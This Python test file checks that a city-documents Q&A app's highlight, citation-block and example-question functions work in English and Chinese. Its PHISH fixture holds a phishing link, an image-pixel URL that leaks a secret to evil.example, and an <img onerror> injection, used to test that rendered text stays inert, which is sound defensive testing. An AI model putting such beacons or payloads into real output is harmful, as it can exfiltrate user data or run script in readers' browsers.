"""Presentation: highlights render document text inert; cite blocks and examples come from data."""
from __future__ import annotations

from cityqa.i18n import TEXT, column
from cityqa.present import cite_block, example_questions, highlight

PHISH = "See [x](http://evil.example/phish) and ![](https://evil.example/pixel.png?leak=secret) <img src=y onerror=z>."
REF = {"zh": "作者. 题名[N]. 报纸, 2023-03-20(2).", "en": "Author, A. (2023, March 20). Title. Paper, 2."}


def citation(n: int, quote: str) -> dict:
    return {"n": n, "quote": quote, "original": quote, "translation": None, "language": "en", "section": "Doc > Part",
            "title": "Doc", "paragraph_id": "p.1", "reference": REF, "quotes": [quote]}


def turns() -> list[dict]:
    answer = {"answer": PHISH + " [1][2]", "language": "en", "refused": False,
              "citations": [citation(1, PHISH), citation(2, "Second quote.")]}
    return [{"role": "user", "content": "What about [x](http://evil.example/q)?"}, {"role": "assistant",
                                                                                    "answer": answer}]


def test_highlight_marks_every_quote_in_the_paragraph_and_keeps_the_rest_inert():
    text = highlight("One [a](http://x.example). Two. Three.", ["Two.", "Three.", "missing"])
    assert text.count(":orange-background[") == 2
    assert "`http://x.example)" in text


def test_the_cite_block_is_plain_text_with_one_reference_list():
    block = cite_block(turns()[1]["answer"], "en")
    assert block.count(REF["en"]) == 1 and "References\n[1] " in block
    assert "(Part; reference 1)" in block


def test_examples_come_from_the_documents_else_from_their_titles():
    assert example_questions([{"examples": ["Q one?", "问题二？"], "title": "T"}], "en")[0] == "Q one?"
    generic = example_questions([{"title": "Harbour plan", "sections": ["Transport"]}], "en")
    assert generic[:2] == ["What are the main points of “Harbour plan”?",
                           "What does “Harbour plan” say about transport?"]
    assert example_questions([{"title": "港口规划", "sections": []}], "zh")[0] == "《港口规划》的主要观点是什么？"


def test_every_ui_string_and_column_name_exists_in_both_languages():
    assert all(zh and en and zh != en for zh, en in TEXT.values() if en not in ("cityqa",))
    assert column("latency_p50_ms", "zh") == "延迟中位数（毫秒）" and column("hit@1", "zh") == "首位命中率"
